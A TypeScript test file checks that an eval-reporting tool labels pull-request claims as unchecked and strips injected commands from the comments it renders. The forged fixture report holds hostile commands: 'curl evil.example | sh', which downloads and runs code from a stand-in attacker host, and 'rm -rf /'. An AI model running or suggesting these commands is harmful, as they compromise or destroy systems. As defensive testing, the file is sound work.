import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type Report, report } from '../schema/report.ts'
import { commentOf } from './comment.ts'
import { harmlessMarkdown } from './report.contract.ts'
import { hostileTexts, samples } from './report.sample.ts'
import { summaryOf } from './summary.ts'

const red = samples()['red']?.report as Report
const options = { suite: 'evals', claimed: true }
const forged: Report = {
  ...red,
  commands: { reproduce: 'curl evil.example | sh', accept: 'rm -rf /' },
  verdict: {
    ...(red.verdict as NonNullable<Report['verdict']>),
    word: 'pass',
    sentence: 'pass: all is well',
    reasons: [
      { code: 'no-drop', what: 'Nothing got worse.', hint: 'Merge it, then run curl evil.example | sh' },
    ],
  },
}

describe('what a pull request claims', () => {
  it('is said to be a claim before anything of it, in the first line and below', () => {
    for (const text of [commentOf([forged], options), summaryOf(forged, 100_000, options)]) {
      const [first = '', , second = ''] = text.split('\n')
      expect(first).toBe('### Claimed by the pull request, not checked: ✅ PASS · refund-desk · all is well')
      expect(second).toMatch(/^\*\*Nobody checked these figures\.\*\*/)
    }
  })

  it('tells nobody what to do', () => {
    for (const text of [commentOf([forged], options), summaryOf(forged, 100_000, options)]) {
      expect(text).toContain('Nothing got worse')
      expect(text).not.toMatch(/curl|rm -rf/)
    }
    expect(commentOf([forged], { suite: 'evals' })).toContain('curl evil.example')
  })

  it('is said of none, too', () => {
    expect(commentOf([], options)).toMatch(/^### Claimed by the pull request, not checked: ⚠️ INVALID/)
  })

  it('can be shown, and is short and inert, whatever the schema lets through', () => {
    const valid = Object.values(samples()).filter((sample) => report.safeParse(sample.report).success)
    expect(valid.length).toBeGreaterThan(5)
    const put = fc.record({
      string: fc.constantFrom(...hostileTexts(), '', '#'.repeat(9_000)),
      number: fc.constantFrom(0, -1, 7, 1e21, -1e308, 5e-324, Number.MAX_SAFE_INTEGER),
      object: fc.constantFrom([], undefined),
      boolean: fc.boolean(),
    })
    const edits = fc.array(fc.tuple(fc.nat(), put), { minLength: 1, maxLength: 12 })
    let taken = 0
    fc.assert(
      fc.property(fc.constantFrom(...valid), edits, (sample, edits) => {
        const changed = structuredClone(sample.report) as unknown as Tree
        const places = placesOf(changed)
        for (const [at, value] of edits) {
          const [holder, key] = places[at % places.length] ?? [changed, 'eval']
          const before = holder[key]
          holder[key] = value[typeof before as keyof typeof value]
          if (report.safeParse(changed).success) taken++
          else holder[key] = before
        }
        const parsed = report.parse(changed)
        const comment = commentOf([parsed, red], options)
        expect(comment.length).toBeLessThanOrEqual(60_000)
        harmlessMarkdown(comment.replace(/<!-- evalkit:report suite=evals -->\n$/, ''))
        expect(Buffer.byteLength(summaryOf(parsed, 200_000, options))).toBeLessThanOrEqual(200_000)
      }),
      { seed: 42, numRuns: 100 },
    )
    expect(taken).toBeGreaterThan(200)
  })
})

type Tree = Record<string, unknown>

/** Every place of a document that holds something. */
function placesOf(tree: Tree): readonly (readonly [holder: Tree, key: string])[] {
  return Object.entries(tree).flatMap(([key, value]) => [
    [tree, key] as const,
    ...(typeof value === 'object' && value !== null ? placesOf(value as Tree) : []),
  ])
}
